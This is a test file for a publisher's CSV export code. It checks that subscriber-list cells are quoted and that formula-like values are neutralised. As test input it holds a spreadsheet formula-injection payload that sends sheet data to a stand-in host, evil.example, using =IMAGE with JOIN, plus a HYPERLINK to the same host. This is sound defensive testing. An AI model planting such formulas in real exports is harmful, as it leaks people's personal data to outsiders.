/** CSV files for the publisher's spreadsheet: no cell can run as a formula, every cell is quoted. */
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '@/lib/csv';
import { subscribersCsv } from '@/features/admin/mail-api';

describe('csvCell', () => {
  it('neutralises a formula that would send the sheet to another site', () => {
    expect(csvCell('=IMAGE("https://evil.example/?"&JOIN(",",A2:A99))')).toBe(`"'=IMAGE(""https://evil.example/?""&JOIN("","",A2:A99))"`);
  });

  it.each([
    ['=1+1', `"'=1+1"`],
    ['+61 2 9999 9999', `"'+61 2 9999 9999"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
    ['\t=cmd', `"'\t=cmd"`],
    ['\r=cmd', `"'\r=cmd"`],
  ])('prefixes %j with a quote', (value, cell) => expect(csvCell(value)).toBe(cell));

  it.each([
    ['jane@example.com', '"jane@example.com"'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['a;=1+1', '"a;=1+1"'],
    ['', '""'],
  ])('quotes %j as one cell', (value, cell) => expect(csvCell(value)).toBe(cell));

  it('writes numbers and empty values; a number, negative too, stays a number (it cannot hold a formula)', () => {
    expect(csvCell(3)).toBe('"3"');
    expect(csvCell(-3)).toBe('"-3"');
    expect(csvCell(-47.5)).toBe('"-47.5"');
    expect(csvCell('-3')).toBe(`"'-3"`);
    expect(csvCell(null)).toBe('""');
    expect(csvCell(undefined)).toBe('""');
  });
});

describe('toCsv', () => {
  it('a header row, then a row per record, CRLF line endings', () => {
    expect(toCsv(['email', 'note'], [['a@example.com', '=HYPERLINK("https://evil.example")']])).toBe('"email","note"\r\n"a@example.com","\'=HYPERLINK(""https://evil.example"")"\r\n');
  });
});

describe('the subscribers download', () => {
  it('is one row per address with its state (pending, confirmed, unsubscribed), every cell neutralised and quoted', () => {
    const none = { consent_at: null, consent_source: null, consent_page: null, confirmation_sent_at: null, confirmation_page: null, unsubscribed_at: null };
    const csv = subscribersCsv([
      {
        ...none,
        id: '1',
        email: 'parent@example.com.au',
        created_at: '2026-11-24T01:02:03Z',
        status: 'confirmed',
        consent_at: '2026-11-24T01:05:03Z',
        consent_source: 'Website sign-up form, confirmed by email',
        consent_page: '/blog',
      },
      { ...none, id: '3', email: 'waiting@example.com', created_at: '2026-11-25T01:00:00Z', status: 'pending', confirmation_sent_at: '2026-11-25T01:00:00Z', confirmation_page: '/book' },
      {
        ...none,
        id: '2',
        email: '=IMAGE("https://evil.example/?"&JOIN(",",A2:A99))',
        created_at: '2026-11-24T04:05:06Z',
        status: 'unsubscribed',
        consent_at: '2026-11-24T04:05:06Z',
        consent_source: 'Website sign-up form (page not recorded)',
        unsubscribed_at: '2026-11-25T00:00:00Z',
      },
    ]);
    expect(csv.split('\r\n')).toEqual([
      '"email","status","confirmed_at","consent_source","consent_page","confirmation_sent_at","unsubscribed_at"',
      '"parent@example.com.au","confirmed","2026-11-24T01:05:03Z","Website sign-up form, confirmed by email","/blog","",""',
      '"waiting@example.com","pending","","","","2026-11-25T01:00:00Z",""',
      `"'=IMAGE(""https://evil.example/?""&JOIN("","",A2:A99))","unsubscribed","2026-11-24T04:05:06Z","Website sign-up form (page not recorded)","","","2026-11-25T00:00:00Z"`,
      '',
    ]);
  });
});
